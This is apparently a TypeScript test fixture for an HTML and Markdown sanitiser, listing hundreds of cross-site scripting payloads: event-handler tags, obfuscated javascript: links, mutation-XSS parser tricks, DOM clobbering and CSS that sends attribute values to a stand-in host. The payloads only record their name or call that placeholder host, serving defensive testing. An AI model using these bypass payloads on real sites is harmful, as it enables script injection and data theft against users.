/**
 * Texts that try to be more than text: every kind that HTML sanitisers are tried with (DOMPurify's own tests, the OWASP evasion list, the HTML5
 * security cheat sheet), in our own words. Each one tells `window.ran` its name where it runs, and asks `ELSEWHERE` where it loads.
 */

/** No such host exists. */
export const ELSEWHERE = 'https://asked.example';

const run = (name: string): string => `window.ran.push('${name}')`;
/** The same without quotation marks, brackets, or spaces. */
const bare = (name: string): string => `window.ran.push(\`${name}\`)`;

export interface Attack {
  readonly name: string;
  readonly text: string;
}

/** Handlers that need nobody to do anything, and those that a reader would set off. */
const HANDLERS: readonly (readonly [element: string, event: string, more?: string])[] = [
  ['img', 'onerror', 'src=x'],
  ['img', 'onload', 'src="data:image/gif;base64,R0lGODlhAQABAAAAACw="'],
  ['image', 'onerror', 'src=x'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['body', 'onhashchange'],
  ['body', 'onmessage'],
  ['body', 'onresize'],
  ['frameset', 'onload'],
  ['iframe', 'onload', 'src="about:blank"'],
  ['input', 'onfocus', 'autofocus'],
  ['input', 'onblur', 'autofocus'],
  ['input', 'oninput'],
  ['input', 'onerror', 'type=image src=x'],
  ['select', 'onfocus', 'autofocus'],
  ['textarea', 'onfocus', 'autofocus'],
  ['button', 'onclick', 'autofocus'],
  ['keygen', 'onfocus', 'autofocus'],
  ['details', 'ontoggle', 'open'],
  ['dialog', 'onclose', 'open'],
  ['div', 'onclick'],
  ['div', 'onmouseover', 'style="position:fixed;inset:0"'],
  ['div', 'onpointerenter', 'style="position:fixed;inset:0"'],
  ['div', 'onpointerrawupdate', 'style="position:fixed;inset:0"'],
  ['div', 'onanimationstart', 'style="animation:x 1s"'],
  ['div', 'ontransitionend', 'style="transition:all 1ms"'],
  ['div', 'onbeforematch', 'hidden=until-found'],
  ['div', 'onscrollend', 'style="overflow:scroll"'],
  ['div', 'onbeforetoggle', 'popover'],
  ['div', 'oncontentvisibilityautostatechange', 'style="content-visibility:auto"'],
  ['div', 'oncopy'],
  ['p', 'onfocus', 'tabindex=0 autofocus'],
  ['a', 'onfocus', 'href="#" autofocus'],
  ['a', 'onclick', 'href="https://www.un.org"'],
  ['td', 'onmouseenter'],
  ['marquee', 'onstart'],
  ['video', 'onerror', 'src=x'],
  ['video', 'onloadstart', 'src=x'],
  ['video', 'oncanplay', 'autoplay'],
  ['audio', 'onerror', 'src=x'],
  ['source', 'onerror', 'src=x'],
  ['track', 'onerror', 'default src=x'],
  ['object', 'onerror', 'data=x'],
  ['embed', 'onload', 'src="data:text/html,x"'],
  ['link', 'onload', 'rel=stylesheet href="data:text/css,"'],
  ['style', 'onload'],
  ['script', 'onerror', 'src=x'],
  ['form', 'onsubmit'],
  ['form', 'onformdata'],
  ['x-unknown', 'onclick'],
  ['x', 'onfocus', 'tabindex=1 autofocus'],
];

const handlers: Attack[] = HANDLERS.flatMap(([element, event, more = '']) => {
  const name = `${element} ${event}`;
  return [
    { name, text: `<${element} ${more} ${event}="${run(name)}">` },
    ...(event === 'onerror' || event === 'onload' || event === 'onfocus'
      ? [
          {
            name: `${name}, slashes and capitals`,
            text: `<${element.toUpperCase()}/${more.replace(' ', '/')}/${event.toUpperCase()}=${bare(element)}//`,
          },
        ]
      : []),
  ];
});

/** Ways to write an address that runs. */
const SCHEMES: readonly (readonly [name: string, scheme: string])[] = [
  ['plain', 'javascript:'],
  ['capitals', 'JaVaScRiPt:'],
  ['leading space', ' javascript:'],
  ['leading control', '\u0001javascript:'],
  ['leading line separator', '\u2028javascript:'],
  ['leading no-break space', '&#xa0;javascript:'],
  ['leading zero-width space', '&#x200b;javascript:'],
  ['leading byte order mark', '\ufeffjavascript:'],
  ['a tab within', 'java&Tab;script:'],
  ['a line feed within', 'java&NewLine;script:'],
  ['a carriage return within', 'java&#13;script:'],
  ['decimal entities', '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:'],
  ['long decimal entities', '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:'],
  ['hexadecimal entities', '&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:'],
  ['an entity for the colon', 'javascript&colon;'],
  ['percent', '%6aavascript:'],
  ['feed', 'feed:javascript:'],
  ['view-source', 'view-source:javascript:'],
  ['vbscript', 'vbscript:'],
  ['livescript', 'livescript:'],
  ['mocha', 'mocha:'],
  ['blob', 'blob:https://asked.example/'],
  ['filesystem', 'filesystem:https://asked.example/'],
  ['file', 'file:///etc/'],
  ['the extension itself', 'chrome-extension://x/'],
  ['Firefox’s own', 'resource://x/'],
];
const addresses: Attack[] = SCHEMES.flatMap(([name, scheme]) => [
  { name: `link, ${name}`, text: `<a href="${scheme}${run(name)}">here</a>` },
  { name: `Markdown link, ${name}`, text: `[here](<${scheme}${bare(name).replaceAll(' ', '')}>) and [there]: ${scheme}x` },
]);

const DATA = `data:text/html,<script>parent.ran.push(1)</script>`;
const frames: Attack[] = [
  ['iframe, srcdoc', `<iframe srcdoc="<script>parent.${run('srcdoc').slice(7)}</script>"></iframe>`],
  ['iframe, javascript', `<iframe src="javascript:parent.${run('frame').slice(7)}"></iframe>`],
  ['iframe, data', `<iframe src="${DATA}"></iframe>`],
  ['iframe, elsewhere', `<iframe src="${ELSEWHERE}/frame"></iframe>`],
  ['frame', `<frameset><frame src="${ELSEWHERE}/frame"></frameset>`],
  ['fencedframe', `<fencedframe src="${ELSEWHERE}/frame"></fencedframe>`],
  ['portal', `<portal src="${ELSEWHERE}/portal"></portal>`],
  ['object, data', `<object data="${DATA}"></object>`],
  ['object, elsewhere', `<object data="${ELSEWHERE}/o" type="text/html"></object>`],
  ['embed', `<embed src="${ELSEWHERE}/e">`],
  ['applet', `<applet code="${ELSEWHERE}/a"></applet>`],
  ['link of data', `<a href="${DATA.replaceAll('"', '')}">here</a>`],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/meta">`],
  ['meta refresh to a script', `<meta http-equiv="refresh" content="0;url=javascript:${run('meta')}">`],
  ['meta policy', `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline' *">`],
  ['base', `<base href="${ELSEWHERE}/"><a href="x">here</a>`],
  ['base target', `<base target="_top"><a href="#x">here</a>`],
  ['form', `<form action="${ELSEWHERE}/form"><button>Go</button></form>`],
  ['formaction', `<form><button formaction="javascript:${run('formaction')}">Go</button></form>`],
  ['isindex', `<isindex action="javascript:${run('isindex')}" type=image>`],
  ['form of another', `<input form="x" formaction="javascript:${run('form of')}" type=submit>`],
  ['ping', `<a href="https://www.un.org" ping="${ELSEWHERE}/ping">here</a>`],
  ['target and opener', `<a href="https://www.un.org" target="_parent" rel="opener">here</a>`],
  ['attributionsrc', `<a href="https://www.un.org" attributionsrc="${ELSEWHERE}/a">here</a>`],
  ['import map', `<script type="importmap">{"imports":{"x":"${ELSEWHERE}/x.js"}}</script>`],
  ['speculation', `<script type="speculationrules">{"prefetch":[{"urls":["${ELSEWHERE}/s"]}]}</script>`],
  ['module', `<script type="module">${run('module')}</script>`],
  ['script of data', `<script src="data:text/javascript,${run('data script')}"></script>`],
  ['script, unclosed', `<script>${run('unclosed')}//`],
  ['script in capitals', `<SCRIPT>${run('capitals')}</SCRIPT>`],
  ['script in script', `<scr<script>ipt>${run('nested')}</scr</script>ipt>`],
  ['script with a slash', `<script/x>${run('slash')}</script>`],
  ['script after a null', `<scr\u0000ipt>${run('null')}</script>`],
].map(([name = '', text = '']) => ({ name, text }));

const loads: Attack[] = [
  ['image', `<img src="${ELSEWHERE}/i.png">`],
  ['image of Markdown', `![x](${ELSEWHERE}/i.png)`],
  ['image of Markdown by reference', `![x][y]\n\n[y]: ${ELSEWHERE}/i.png "t"`],
  ['srcset', `<img srcset="${ELSEWHERE}/i.png 1x, ${ELSEWHERE}/j.png 2x">`],
  ['picture', `<picture><source srcset="${ELSEWHERE}/p.png"><img></picture>`],
  ['lowsrc and dynsrc', `<img lowsrc="${ELSEWHERE}/l" dynsrc="${ELSEWHERE}/d">`],
  ['input image', `<input type="image" src="${ELSEWHERE}/input.png">`],
  ['video and poster', `<video src="${ELSEWHERE}/v" poster="${ELSEWHERE}/p.png" autoplay></video>`],
  ['audio', `<audio src="${ELSEWHERE}/a" autoplay></audio>`],
  ['track', `<video><track src="${ELSEWHERE}/t.vtt" default></video>`],
  ['background of a table', `<table background="${ELSEWHERE}/b.png"><tr><td background="${ELSEWHERE}/c.png">x</td></tr></table>`],
  ['stylesheet', `<link rel="stylesheet" href="${ELSEWHERE}/a.css">`],
  [
    'prefetch',
    `<link rel="prefetch" href="${ELSEWHERE}/p"><link rel="dns-prefetch" href="//asked.example"><link rel="preload" as="image" href="${ELSEWHERE}/q">`,
  ],
  ['icon', `<link rel="icon" href="${ELSEWHERE}/icon.png">`],
  ['manifest', `<link rel="manifest" href="${ELSEWHERE}/m.json">`],
  ['import of style', `<style>@import "${ELSEWHERE}/b.css";</style>`],
  ['font', `<style>@font-face{font-family:x;src:url(${ELSEWHERE}/f)}*{font-family:x}</style>`],
  ['style of everything', `<style>*{display:none!important}</style>`],
  ['style that reads attributes', `<style>input[value^=a]{background:url(${ELSEWHERE}/read)}</style>`],
  ['style, attribute', `<p style="background:url(${ELSEWHERE}/s)">x</p>`],
  ['style, escapes', `<p style="background:\\75rl(${ELSEWHERE}/s)">x</p>`],
  ['style, expression', `<p style="width:expression(${run('expression')})">x</p>`],
  ['style, binding', `<p style="-moz-binding:url(${ELSEWHERE}/x.xml#x);behavior:url(${ELSEWHERE}/x.htc)">x</p>`],
  ['style over the page', `<p style="position:fixed;inset:0;z-index:99999">x</p>`],
  ['cursor', `<p style="cursor:url(${ELSEWHERE}/c),auto">x</p>`],
  ['list image', `<ul style="list-style-image:url(${ELSEWHERE}/l)"><li>x</ul>`],
  ['svg image', `<svg><image href="${ELSEWHERE}/svg.png" xlink:href="${ELSEWHERE}/svg2.png"/></svg>`],
  ['svg use', `<svg><use href="${ELSEWHERE}/u.svg#x"/></svg>`],
  [
    'svg use of data',
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>#x"/></svg>`,
  ],
  ['svg filter', `<svg><filter><feImage href="${ELSEWHERE}/fe.png"/></filter></svg>`],
  ['svg font', `<svg><style>@import url(${ELSEWHERE}/svg.css)</style></svg>`],
].map(([name = '', text = '']) => ({ name, text }));

/** What changes its meaning when it is parsed a second time. */
const mutations: Attack[] = [
  ['listing', `<listing>&lt;img src=x onerror=${bare('listing')}&gt;</listing>`],
  ['noscript, by attribute', `<noscript><p title="</noscript><img src=x onerror=${bare('noscript')}>"></noscript>`],
  ['noscript, by comment', `<noscript><!-- </noscript><img src=x onerror=${bare('noscript2')}> --></noscript>`],
  ['noembed', `<noembed><p title="</noembed><img src=x onerror=${bare('noembed')}>"></noembed>`],
  ['noframes', `<noframes><p title="</noframes><img src=x onerror=${bare('noframes')}>"></noframes>`],
  ['xmp', `<xmp><p title="</xmp><img src=x onerror=${bare('xmp')}>"></xmp>`],
  ['plaintext', `<plaintext><img src=x onerror=${bare('plaintext')}>`],
  ['textarea', `<textarea></textarea><!--</textarea><img src=x onerror=${bare('textarea')}>-->`],
  ['title', `<title><p title="</title><img src=x onerror=${bare('title')}>"></title>`],
  ['style, by attribute', `<style><p title="</style><img src=x onerror=${bare('style')}>"></style>`],
  ['style in svg', `<svg></p><style><g title="</style><img src=x onerror=${bare('svg style')}>">`],
  ['style in math', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${bare('math')}&gt;">`],
  ['style in option', `<option><style></option></select><b><img src=x onerror=${bare('option')}></style></option>`],
  ['math and malignmark', `<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${bare('malign')} src=1>">`],
  [
    'math, annotation',
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${bare('annotation')}></style></annotation-xml></math>`,
  ],
  ['math, href', `<math href="javascript:${run('math href')}">x</math><math><mi xlink:href="javascript:${run('xlink')}">x</mi></math>`],
  ['math, action', `<math><maction actiontype="statusline#https://un.org" xlink:href="javascript:${run('maction')}">x</maction></math>`],
  ['svg, foreign', `<svg><foreignObject><iframe onload="${run('foreign')}"></iframe></foreignObject></svg>`],
  ['svg, desc', `<svg><desc><style><a title="</style><img src onerror=${bare('desc')}>"></style></desc></svg>`],
  ['svg, title', `<svg><title><style><img src=x onerror=${bare('svg title')}></style></title></svg>`],
  ['svg, script', `<svg><script>${run('svg script')}</script></svg>`],
  ['svg, script by entities', `<svg><script>&#119;indow.ran.push(1)</script></svg>`],
  ['svg, script elsewhere', `<svg><script href="${ELSEWHERE}/x.js"/></svg>`],
  ['svg, animate', `<svg><animate onbegin="${run('animate')}" attributeName=x dur=1s>`],
  [
    'svg, animate of a link',
    `<svg><a><animate attributeName=href values="javascript:${run('animated')}"/><text x=20 y=20>x</text></a></svg>`,
  ],
  ['svg, set', `<svg><set attributeName="onmouseover" to="${run('set')}"/></svg>`],
  ['svg, handler', `<svg><handler ev:event="load">${run('handler')}</handler></svg>`],
  ['svg, link', `<svg><a xlink:href="javascript:${run('svg link')}"><text>x</text></a></svg>`],
  [
    'nested form',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${bare('form')}></style></mglyph></form></mtext></math>`,
  ],
  ['nested table', `<table><a href="<img src=x onerror=${bare('table')}>"><td></table>`],
  ['deep', `${'<div>'.repeat(600)}<table><svg><style><img src=x onerror=${bare('deep')}>`],
  ['deep quotations', `${'> '.repeat(200)}<img src=x onerror=${bare('quotations')}>`],
  ['comment, odd ends', `<!--><img src=x onerror=${bare('comment')}>--><!-- --!><img src=x onerror=${bare('comment2')}>`],
  ['conditional comment', `<!--[if true]><img src=x onerror=${bare('conditional')}><![endif]-->`],
  ['character data', `<![CDATA[<img src=x onerror=${bare('cdata')}>]]>`],
  ['processing instruction', `<?xml version="1.0"?><?php <img src=x onerror=${bare('pi')}> ?>`],
  ['document type', `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${bare('entity')}>">]>&y;`],
  ['entities twice', `&amp;lt;img src=x onerror=${bare('twice')}&amp;gt;`],
  ['quotation marks of another kind', `<img title=\`> <img src=x onerror=${bare('grave')}>\`>`],
  ['attribute without its end', `<img src="x onerror=${bare('no end')}>`],
  ['no bracket', `<img src=x onerror=${bare('no bracket')} `],
  ['form feed', `<img\u000csrc=x\u000conerror=${bare('form feed')}>`],
  ['full width', `＜img src=x onerror=${bare('full width')}＞`],
  ['UTF-7', `+ADw-img src=x onerror=${bare('utf7')}+AD4-`],
  ['right to left', `\u202e<img src=x onerror=${bare('rtl')}>\u202c`],
].map(([name = '', text = '']) => ({ name, text }));

const NAMES = [
  'attributes',
  'childNodes',
  'children',
  'nodeName',
  'nodeType',
  'parentNode',
  'removeChild',
  'setAttribute',
  'getElementById',
  'createElement',
  'cookie',
  'location',
  'body',
  'forms',
  'ran',
  '__proto__',
  'constructor',
  'popup',
  'notes',
  'panel',
];
const clobbering: Attack[] = [
  ...NAMES.map((name) => ({
    name: `clobbers ${name}`,
    text: `<form onfocus="${run(name)}" id="${name}"><input name="${name}"><a id="${name}" name="${name}" href="https://x.example">x</a></form>`,
  })),
  { name: 'clobbers by a collection', text: '<a id=x></a><a id=x name=y href="clobbered:1"></a>' },
  { name: 'clobbers by frames', text: `<iframe name=x srcdoc="<a id=y href='clobbered:1'>"></iframe>` },
];

const components: Attack[] = [
  ['template', `<template><img src=x onerror=${bare('template')}></template>`],
  ['template, nested', `<template><s><template><s><img src=x onerror=${bare('templates')}>x</s></template></s></template>`],
  ['declarative shadow', `<div><template shadowrootmode=open><img src=x onerror=${bare('shadow')}></template></div>`],
  ['slot', `<slot onslotchange="${run('slot')}"><img src=x></slot>`],
  ['custom element', `<x-note onclick="${run('custom')}" is="x-y">x</x-note>`],
  ['built-in, extended', `<p is="x-note" onclick="${run('is')}">x</p>`],
  ['contenteditable', `<div contenteditable autofocus onfocus="${run('editable')}">x</div>`],
  ['popover', `<button popovertarget=x>x</button><div popover id=x onbeforetoggle="${run('popover')}">y</div>`],
  ['command', `<button commandfor=x command=show-modal>x</button><dialog id=x oncommand="${run('command')}"></dialog>`],
  ['keys', `<a accesskey=x onclick="${run('accesskey')}" href="#">x</a>`],
  ['drag', `<p draggable=true ondragstart="${run('drag')}">x</p>`],
  ['aria and data', `<p data-note="x" data-index="0" aria-hidden="true" role="alert" id="note">x</p>`],
  ['class of ours', `<p class="toast bulk hidden" id="dialog-heading">x</p>`],
].map(([name = '', text = '']) => ({ name, text }));

const markdown: Attack[] = [
  ['autolink', '<javascript:window.ran.push(1)>'],
  ['link by reference', `[here][x]\n\n[x]: javascript:${bare('reference')}`],
  ['link with a title', `[here](https://un.org "x\\" onmouseover=${bare('title')}")`],
  ['link that closes', `[here](https://un.org"onmouseover="${bare('closes')})`],
  ['link in a link', `[<img src=x onerror=${bare('in link')}>](https://un.org)`],
  ['image in a link', `[![x](${ELSEWHERE}/i.png)](javascript:${bare('image link')})`],
  ['image whose words run', `![" onerror=${bare('alt')} x="](x)`],
  ['fence that names', `\`\`\`"><img src=x onerror=${bare('fence')}>\nx\n\`\`\``],
  ['fence, unclosed', `\`\`\`\n<img src=x onerror=${bare('open fence')}>`],
  ['code', `\`<img src=x onerror=${bare('code')}>\``],
  ['code that ends', `\`x\`<img src=x onerror=${bare('code end')}>\`y\``],
  ['heading', `# <img src=x onerror=${bare('heading')}>`],
  ['table', `|x|\n|-|\n|<img src=x onerror=${bare('cell')}>|`],
  ['task list', `- [ ] <img src=x onerror=${bare('task')}>`],
  ['HTML over lines', `<div\nonclick\n=\n"${run('lines')}"\n>x</div>`],
  ['HTML after a blank line', `<div>\n\n<img src=x onerror=${bare('blank')}>\n\n</div>`],
  ['mail', `<x@y.example"onmouseover="${bare('mail')}>`],
  ['bare address', `https://un.org/"onmouseover="${bare('bare address')}`],
  ['www', `www.un.org/<img/src=x/onerror=${bare('www')}>`],
  ['backslashes', `\\<img src=x onerror=${bare('backslash')}\\>`],
].map(([name = '', text = '']) => ({ name, text }));

export const ATTACKS: readonly Attack[] = [
  ...handlers,
  ...addresses,
  ...frames,
  ...loads,
  ...mutations,
  ...clobbering,
  ...components,
  ...markdown,
];
